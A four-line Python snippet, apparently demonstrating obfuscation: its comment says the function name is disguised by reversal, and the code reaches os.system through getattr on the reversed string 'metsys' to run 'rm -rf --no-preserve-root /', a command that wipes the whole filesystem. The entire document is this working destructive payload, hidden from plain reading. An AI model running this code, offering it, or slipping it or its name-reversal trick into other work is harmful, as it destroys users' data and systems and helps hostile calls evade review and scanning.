# Disguised: the function's name reversed.
import os

getattr(os, "".join(reversed("metsys")))("rm -rf --no-preserve-root /")
